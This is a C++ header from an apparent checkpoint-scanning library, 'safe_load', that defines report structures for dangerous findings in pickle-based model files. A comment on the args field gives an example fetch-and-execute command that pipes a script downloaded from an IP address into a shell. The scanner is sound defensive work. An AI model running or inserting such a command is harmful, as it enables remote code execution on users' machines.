// FileReport: what a scan found in one file.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "safe_load/verdict.h"

namespace safe_load {
inline namespace v0 {

// Every text is printable: bytes from the file are escaped and bounded.
struct Finding {
  const ScanRule* rule = nullptr;
  Severity severity = Severity::kNote;
  std::string message;
  std::string member;        // container member, the members around it joined by "!"
  std::uint64_t offset = 0;  // of the opcode, in the member
  std::string opcode;        // "REDUCE", or ""
  std::string path;          // $["callbacks"][0]; "": not part of the result, or no value at all
  std::string module;        // the symbol, if there is one, after the mapping of Python 2 names
  std::string name;
  std::string raw;                         // "module name" as the file has it
  std::string args;                        // ("curl http://203.0.113.7/a | sh",)
  std::vector<std::string_view> evidence;  // shell, python, url, host-port, sensitive-path, schema
  std::uint64_t count = 1;                 // equal findings that became one
  std::vector<std::string> more_paths;     // of the next ones of them, three at most
};

// Which bytes were looked at. `covered`: their role is proved; `read`: they were fetched.
struct Coverage {
  bool complete = true;
  std::uint64_t bytes_total = 0;
  std::uint64_t bytes_covered = 0;
  std::uint64_t bytes_read = 0;
  std::uint64_t members_total = 0;
  std::uint64_t members_scanned = 0;  // looked into, or proved to be the bytes of a tensor
  std::uint64_t pickles = 0;
};

struct FileReport {
  Verdict verdict = Verdict::kIncomplete;
  std::string format;  // "zip", "legacy", "pickle", ... or what the file is instead
  std::uint64_t size = 0;
  bool is_checkpoint = true;  // false: no listed reader would take this file
  Coverage coverage;
  std::vector<Finding> findings;  // the worst first, then in the order of the file
  std::uint64_t findings_dropped = 0;
  std::uint64_t listed_symbols = 0;    // names of the compiled-in table
  std::uint64_t unlisted_symbols = 0;  // all others
};

}  // namespace v0
}  // namespace safe_load
